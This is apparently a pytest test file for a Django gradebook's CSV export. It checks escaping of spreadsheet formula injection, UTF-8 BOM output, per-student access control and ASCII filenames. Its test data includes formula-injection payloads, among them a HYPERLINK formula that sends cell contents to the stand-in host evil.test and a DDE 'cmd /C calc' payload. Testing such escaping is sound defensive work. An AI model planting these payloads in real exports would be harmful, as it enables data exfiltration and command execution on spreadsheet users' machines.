"""CSV export: safe against spreadsheet formula injection, UTF-8 with BOM, named by course."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from courses.gradebook.export import csv_filename, safe_cell
from tests import factories
from tests.courses.factories import LessonPageFactory
from tests.courses.learning_world import body_with, enroll, make_course, publish, quiz_block
from tests.gradebook.world import grade_assignment, graded_attempt, make_assignment

HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_triggers_are_escaped_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Anna", "Ölçü", "1.5", "a=b", " =x", "", None])
def test_harmless_cells_are_left_alone(value):
    assert safe_cell(value) == ("" if value is None else value)


def _rows(response) -> list[list[str]]:
    raw = response.content
    assert raw.startswith("\ufeff".encode())  # UTF-8 byte-order mark for Excel
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.fixture
def hostile_world(section, tutor, student):
    course, (lesson,) = make_course(section, title="Fractions")
    evil_lesson = publish(
        LessonPageFactory(
            parent=course,
            title="=1+2 lesson",
            body=body_with(quiz_block(block_id="quiz-evil")),
        )
    )
    student.first_name, student.last_name = '=HYPERLINK("http://evil.test","x")', "Ölçü"
    student.save()
    second = factories.StudentFactory(first_name="@SUM(A1)", last_name="")
    enroll(student, course)
    enroll(second, course)
    graded_attempt(student, lesson, score=3)
    graded_attempt(second, evil_lesson, score=1, block_id="quiz-evil")
    assignment = make_assignment(tutor, student, lesson, course, title="-10 points homework")
    grade_assignment(assignment, points=5)
    return {"course": course, "second": second}


def test_tutor_grid_csv_escapes_hostile_names_and_titles(client_for, hostile_world, tutor):
    course = hostile_world["course"]
    response = client_for(tutor).get(reverse("gradebook:course_grid_csv", kwargs={"pk": course.pk}))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{csv_filename(course)}"'
    rows = _rows(response)
    header, *students, averages = rows
    assert "'=1+2 lesson · Check yourself" in header
    assert "'-10 points homework" in header
    names = {row[0] for row in students}
    assert '\'=HYPERLINK("http://evil.test","x") Ölçü' in names
    assert "'@SUM(A1)" in names
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert averages[0] == "Average (%)"


def test_student_csv_is_own_list_escaped(client_for, hostile_world, student):
    course = hostile_world["course"]
    url = reverse(
        "gradebook:student_course_csv", kwargs={"pk": course.pk, "student_pk": student.pk}
    )
    response = client_for(student).get(url)
    assert response.status_code == 200
    rows = _rows(response)
    assert rows[0] == ["Item", "Kind", "Points", "Maximum", "Percent", "Date"]
    items = {row[0]: row for row in rows[1:-1]}
    assert items["'-10 points homework"][1:5] == ["Assignment", "5", "10", "50"]
    assert items["Fractions lesson 1 · Check yourself"][1:5] == ["Quiz", "3", "4", "75"]
    assert rows[-1][0] == "Total"
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="gradebook-{course.slug}'
    )


def test_student_csv_of_a_classmate_is_404(client_for, hostile_world, student):
    url = reverse(
        "gradebook:student_course_csv",
        kwargs={"pk": hostile_world["course"].pk, "student_pk": hostile_world["second"].pk},
    )
    assert client_for(student).get(url).status_code == 404


def test_filename_is_ascii_from_the_slug(section):
    course, _ = make_course(section, title="Дроби")
    course.slug = "дроби"
    assert csv_filename(course) == f"gradebook-course-{course.pk}.csv"
    course.slug = "fractions-101"
    assert csv_filename(course, suffix="Anna Ölçü") == "gradebook-fractions-101-anna-olcu.csv"
